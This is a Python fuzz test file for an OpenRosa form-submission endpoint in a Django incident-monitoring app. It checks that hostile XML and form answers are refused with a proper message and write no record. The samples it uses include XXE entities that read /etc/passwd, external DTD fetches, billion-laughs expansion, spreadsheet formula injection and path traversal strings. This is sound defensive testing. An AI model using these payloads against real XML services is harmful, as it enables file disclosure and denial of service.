# ruff: noqa: F811 (the OpenRosa fixtures are imported, then used as arguments)
"""Hostile OpenRosa submissions through the real endpoint with a device credential.

Malformed and truncated XML, DTDs hidden in every way we could think of (entity expansion, external
entities, other encodings, BOMs), wrong form ids and versions, deep nesting, hostile and huge answers,
broken multipart bodies: the answer is never a 5xx, always an OpenRosaResponse with a message, and a
refused submission writes no incident. Hypothesis runs inside each test (bounded, derandomized).
"""

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import CharField
from django.db.models.functions import Length
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sentinelle.ingest.openrosa.tests.conftest import (  # noqa: F401 (fixtures)
    caseworker_device,
    cercle,
    commune,
    geography,
    monitor_device,
    xform_of,
)
from sentinelle.ingest.openrosa.tests.odk import build_submission
from sentinelle.ingest.openrosa.tests.test_submission import gbv_answers, incident_answers
from sentinelle.monitoring.models import Incident

pytestmark = pytest.mark.django_db

SUBMISSION = "/openrosa/submission"
FUZZ = settings(
    max_examples=30,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
REFUSALS = {400, 401, 403, 404, 409, 413}


@pytest.fixture
def send(client, monitor_device):
    """send(xml, ...) -> the response, after checking it is an OpenRosa answer and writes only on 201."""
    client.raise_request_exception = True  # a crash fails the test with its traceback

    def _send(xml: bytes, *, content_type="text/xml", name="xml_submission_file", headers=None, **extra):
        before = Incident.objects.count()
        data = {name: SimpleUploadedFile("submission.xml", xml, content_type=content_type), **extra}
        response = client.post(SUBMISSION, data, secure=True, **(headers or monitor_device))
        assert response.status_code < 500
        assert response.status_code in REFUSALS | {201}, response.status_code
        body = response.content.decode()
        assert "OpenRosaResponse" in body
        message = re.search(r"<message[^>]*>(.*)</message>", body, re.S)
        assert message and message.group(1).strip(), body
        if response.status_code != 201:
            assert Incident.objects.count() == before, "a refused submission wrote an incident"
        else:
            assert Incident.objects.count() in (before, before + 1)
            lengths_within_limits()
        return response

    return _send


def lengths_within_limits():
    """No stored text longer than its column allows (PostgreSQL would refuse it with a 500)."""
    for field in Incident._meta.concrete_fields:
        if isinstance(field, CharField) and field.max_length:
            too_long = Incident.objects.annotate(n=Length(field.attname)).filter(n__gt=field.max_length)
            assert not too_long.exists(), f"{field.name} longer than {field.max_length}"


@pytest.fixture
def incident_xform(xform_of):
    return xform_of("sentinelle_incident")


@pytest.fixture
def gbv_xform(xform_of):
    return xform_of("sentinelle_vbg")


ANSWER = st.one_of(
    st.sampled_from(
        [
            "=1+1",
            "+2",
            "-3",
            "@SUM(A1)",
            '=HYPERLINK("http://exemple.invalid","x")',
            "",
            " ",
            "yes",
            "no",
            "9" * 30,
            "-1",
            "1.5",
            "NaN",
            "2024-02-30",
            "0001-01-01",
            "9999-12-31",
            "ML05",
            "ML9999",
            "life life life",
            "unknown_code",
            "14.4 -4.1",
            "999 999 999 999",
            "a b c d e",
            "<![CDATA[x]]>",
            "]]>",
            "%(reference)s",
            "\u202e",
            "é" * 10,
        ]
    ),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=30),
    st.integers(min_value=300, max_value=20_000).map(lambda n: "x" * n),
)


def test_hostile_answers_in_the_incident_form(send, incident_xform):
    keys = sorted(key for key, value in incident_answers().items() if isinstance(value, str))

    @FUZZ
    @given(changes=st.dictionaries(st.sampled_from(keys), ANSWER, min_size=1, max_size=4))
    def check(changes):
        send(build_submission(incident_xform, incident_answers(**changes)))

    check()


def test_hostile_answers_in_the_gbv_form(send, gbv_xform, caseworker_device):
    keys = sorted(gbv_answers())

    @settings(FUZZ, max_examples=25)
    @given(changes=st.dictionaries(st.sampled_from(keys), ANSWER, min_size=1, max_size=4))
    def check(changes):
        # Sent by a GBV service provider's case worker: a monitor's device may not send the GBV form.
        send(build_submission(gbv_xform, gbv_answers(**changes)), headers=caseworker_device)

    check()


def test_hostile_victim_repeats(send, incident_xform):
    victim = st.fixed_dictionaries(
        {
            "victim_outcome": st.one_of(st.sampled_from(["killed", "injured", "x", ""]), ANSWER),
            "victim_sex": st.one_of(st.sampled_from(["m", "f", "u", ""]), ANSWER),
            "victim_age_group": st.one_of(st.sampled_from(["18_59", "0_5", "bogus"]), ANSWER),
            "victim_count": st.one_of(st.sampled_from(["1", "0", "-1", "1e9", "9" * 25]), ANSWER),
        }
    )

    @settings(FUZZ, max_examples=25)
    @given(victims=st.lists(victim, max_size=12))
    def check(victims):
        send(build_submission(incident_xform, incident_answers(victims=victims)))

    check()


# --- Raw documents: malformed, truncated, DTDs, other encodings, wrong forms -----------------------------

DTDS = [
    '<!DOCTYPE data [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    '<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE data SYSTEM "http://exemple.invalid/evil.dtd">',
    '<!doctype data [<!entity a "x">]>',
    '<!DOCTYPE data PUBLIC "-//x//y" "file:///etc/hostname">',
    '<!DOCTYPE data [<!ENTITY % p SYSTEM "http://exemple.invalid/p.dtd"> %p;]>',
]


def test_dtds_and_entities_are_refused_in_any_disguise(send, incident_xform):
    base = build_submission(incident_xform, incident_answers(summary="&d;&xxe;"))
    body = base.split(b"?>", 1)[1]

    @FUZZ
    @given(
        dtd=st.sampled_from(DTDS),
        declaration=st.sampled_from(
            [
                b"",
                b"<?xml version='1.0' ?>",
                b'<?xml version="1.0" encoding="UTF-16"?>',
                b'<?xml version="1.0" encoding="ISO-8859-1"?>',
            ]
        ),
        encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]),
        gap=st.sampled_from(["", "\n", "<!-- c -->", " \t"]),
    )
    def check(dtd, declaration, encoding, gap):
        text = declaration.decode() + gap + dtd + gap + body.decode()
        response = send(text.encode(encoding))
        assert response.status_code == 400
        content = response.content.decode()
        assert "root:" not in content and "aaaaaaaaaaaaaaaaaaaa" not in content

    check()


def test_malformed_truncated_and_corrupted_documents(send, incident_xform):
    base = build_submission(incident_xform, incident_answers())

    @FUZZ
    @given(
        cut=st.floats(min_value=0.0, max_value=1.0),
        flips=st.lists(
            st.tuples(st.floats(min_value=0.0, max_value=1.0), st.integers(min_value=0, max_value=255)),
            max_size=3,
        ),
        tail=st.binary(max_size=32),
    )
    def check(cut, flips, tail):
        data = bytearray(base)
        for where, byte in flips:
            data[min(int(where * len(data)), len(data) - 1)] = byte
        send(bytes(data[: int(cut * len(data))]) + tail)

    check()


def test_random_bytes(send, geography):
    @FUZZ
    @given(content=st.binary(max_size=300))
    def check(content):
        assert send(content).status_code in REFUSALS

    check()


def test_wrong_form_ids_versions_and_instance_ids(send, incident_xform):
    base = build_submission(incident_xform, incident_answers()).decode()
    form_id = re.search(r'id="([^"]+)"', base).group(1)
    version = re.search(r'version="([^"]+)"', base).group(1)
    attribute = st.one_of(
        st.sampled_from(["", "x", "sentinelle_incident ", "SENTINELLE_INCIDENT", "../../etc", "a" * 5000]),
        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=20),
    )

    @FUZZ
    @given(
        new_id=st.one_of(st.none(), attribute),
        new_version=st.one_of(st.none(), attribute),
        instance=st.one_of(st.none(), attribute),
    )
    def check(new_id, new_version, instance):
        text = base
        if new_id is not None:
            text = text.replace(f'id="{form_id}"', f'id="{_escape(new_id)}"', 1)
        if new_version is not None:
            text = text.replace(f'version="{version}"', f'version="{_escape(new_version)}"', 1)
        if instance is not None:
            text = re.sub(
                r"<instanceID>[^<]*</instanceID>", f"<instanceID>{_escape(instance)}</instanceID>", text
            )
        response = send(text.encode())
        if new_id is not None and new_id != form_id:
            assert response.status_code in REFUSALS

    check()


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


@pytest.mark.parametrize("depth", [50, 900, 3000])
def test_deeply_nested_documents(send, geography, depth):
    xml = (
        '<data id="sentinelle_incident" version="1">'
        + "<g>" * depth
        + "x"
        + "</g>" * depth
        + "<meta><instanceID>uuid:deep</instanceID></meta></data>"
    ).encode()
    assert send(xml).status_code in REFUSALS


def test_many_elements_and_huge_fields(send, incident_xform, settings):
    settings.SENTINELLE = {**settings.SENTINELLE, "OPENROSA_MAX_BYTES": 600_000}
    send(build_submission(incident_xform, incident_answers(summary="é" * 200_000)))
    send(build_submission(incident_xform, incident_answers(account="Récit " * 80_000)))
    send(build_submission(incident_xform, incident_answers(source_mechanism="m" * 100_000)))
    many = build_submission(incident_xform, incident_answers()).replace(
        b"</data>", b"<z/>" * 100_000 + b"</data>"
    )
    send(many)
    too_big = build_submission(incident_xform, incident_answers(summary="x" * 700_000))
    assert send(too_big).status_code == 413


def test_broken_multipart_bodies(client, monitor_device, incident_xform):
    xml = build_submission(incident_xform, incident_answers())
    boundary = "XyZ"
    bodies = [
        ("multipart/form-data", b"garbage"),
        (f"multipart/form-data; boundary={boundary}", b"--XyZ\r\nno headers\r\n"),
        (
            f"multipart/form-data; boundary={boundary}",
            b'--XyZ\r\nContent-Disposition: form-data; name="xml_submission_file"; filename="a.xml"\r\n'
            b"Content-Type: text/xml\r\n\r\n" + xml[:50],
        ),
        ("multipart/form-data; boundary=", b""),
        ("text/xml", xml),
        ("application/x-www-form-urlencoded", b"xml_submission_file=" + xml),
        ("multipart/mixed; boundary=XyZ", b"--XyZ--"),
    ]
    for content_type, body in bodies:
        before = Incident.objects.count()
        response = client.generic(
            "POST", SUBMISSION, body, content_type=content_type, secure=True, **monitor_device
        )
        assert response.status_code in REFUSALS, (content_type, response.status_code)
        assert "OpenRosaResponse" in response.content.decode()
        assert Incident.objects.count() == before
    lying = client.generic(
        "POST",
        SUBMISSION,
        b"x",
        content_type="multipart/form-data; boundary=XyZ",
        secure=True,
        CONTENT_LENGTH="not-a-number",
        **monitor_device,
    )
    assert lying.status_code == 400
